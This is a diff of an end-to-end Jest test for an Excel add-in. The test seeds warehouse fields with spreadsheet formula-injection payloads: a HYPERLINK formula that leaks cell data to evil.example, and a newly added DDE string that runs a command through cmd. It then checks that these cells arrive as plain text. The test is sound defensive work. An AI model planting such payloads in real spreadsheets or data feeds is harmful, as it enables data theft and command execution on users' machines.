@@ -18,6 +18,7 @@ import { connect, ensureBundle, openPane, requireChromium, screenshotPane, scree
 jest.setTimeout(300_000);
 
 const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")';
+const HOSTILE_COMMENT = "=cmd|' /C calc'!A0";
 
 interface ApiDataset {
   columns: Array<{ name: string; type: string }>;
@@ -58,6 +59,8 @@ describe('the Excel add-in against crossdock serve on demo data and the channel 
         await warehouse.transaction(async (conn) => {
           await conn.run('update sku set title = $1 where sku = (select min(sku) from sku)', [HOSTILE_TITLE]);
           await conn.run('update listing set title = $1 where sku = (select min(sku) from sku)', [HOSTILE_TITLE]);
+          // and a return comment (return_reasons shows the latest one per reason)
+          await conn.run('update return_line set customer_comment = $1', [HOSTILE_COMMENT]);
           await bumpDataVersion(conn);
         });
         sandboxes = await seedFromWarehouse(warehouse, { quiet: true, rateLimits: false });
@@ -116,6 +119,9 @@ describe('the Excel add-in against crossdock serve on demo data and the channel 
       expect([table, titles.filter((c) => c.kind !== 'text' && c.kind !== 'empty')]).toEqual([table, []]);
       expect([table, titles.some((c) => c.value === HOSTILE_TITLE && c.kind === 'text')]).toEqual([table, true]);
     }
+    const comments = await workbook<CellInfo[]>(page, 'columnCells', 'Crossdock_return_reasons', 'Latest comment');
+    expect(comments.filter((c) => c.kind !== 'text' && c.kind !== 'empty')).toEqual([]);
+    expect(comments.some((c) => c.value === HOSTILE_COMMENT && c.kind === 'text')).toBe(true);
     const charts = await workbook<{ charts: Array<{ type: string }> }>(page, 'sheetInfo', 'Return reasons');
     expect(charts.charts.map((c) => c.type)).toEqual(['Pie']);
     await screenshotPane(page, 'real-pane-refreshed');
